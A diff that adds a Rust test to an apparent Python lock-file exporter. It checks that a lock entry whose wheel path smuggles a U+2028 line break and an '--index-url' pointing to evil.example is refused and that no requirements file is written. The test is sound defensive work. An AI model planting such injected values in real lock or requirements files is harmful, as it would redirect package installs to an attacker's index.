@@ -145,3 +145,63 @@ fn the_export_is_deterministic_and_names_only_the_class_files() {
         .ends_with("-cu128.whl"));
     assert_eq!(demo.variants_json.as_ref().unwrap().variants.len(), 1);
 }
+
+/// A lock from a pull request whose file `path` holds a line break (here U+2028, where pip's
+/// parser ends a line) would add `--index-url` to the export: the lock is refused when read,
+/// with one line naming the key, and no file is written. A path the reader allows but a
+/// requirements file cannot say plainly is refused by the writer, naming the project.
+#[test]
+fn a_hostile_lock_is_refused_and_nothing_is_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let fleet = Fleet::new(dir.path());
+    let lock_text = std::fs::read_to_string(&fleet.lock).unwrap();
+    let packages = vari_lock::read_lock(&lock_text).unwrap().packages.len();
+    let entry = |path: &str| {
+        format!(
+            "\n[[packages]]\nname = \"evil\"\nversion = \"1.0\"\nwheels = [{{ name = \
+             \"evil-1.0-py3-none-any.whl\", path = \"{path}\", hashes = {{ sha256 = \"{}\" }} }}]\n",
+            "0".repeat(64)
+        )
+    };
+    let out = dir.path().join("requirements.txt");
+    std::fs::write(
+        &fleet.lock,
+        format!(
+            "{lock_text}{}",
+            entry("w/evil-1.0-py3-none-any.whl\\u2028--index-url=https://evil.example/simple/")
+        ),
+    )
+    .unwrap();
+    run(export(dir.path(), &fleet, "cpu").arg("-o").arg(&out)).expect_one_error(&[
+        "pylock.toml",
+        &format!("packages[{packages}].wheels[0].path"),
+        "\\u{2028}",
+    ]);
+    assert!(!out.exists());
+
+    std::fs::write(
+        &fleet.lock,
+        format!("{lock_text}{}", entry("w/é/evil-1.0-py3-none-any.whl")),
+    )
+    .unwrap();
+    // (A note about the variant wheels named by URL comes first.)
+    let refused = run(export(dir.path(), &fleet, "cpu").arg("-o").arg(&out)).expect_code(1);
+    let errors: Vec<&str> = refused
+        .stderr
+        .lines()
+        .filter(|l| !l.starts_with("note: "))
+        .collect();
+    assert_eq!(errors.len(), 1, "{}", refused.stderr);
+    for fragment in [
+        "error: ",
+        "pylock.toml: cannot export evil: the path \"",
+        "/w/\\u{e9}/evil-1.0-py3-none-any.whl\" cannot be written in a requirements file",
+    ] {
+        assert!(
+            errors[0].contains(fragment),
+            "{fragment:?} in {:?}",
+            errors[0]
+        );
+    }
+    assert!(!out.exists());
+}
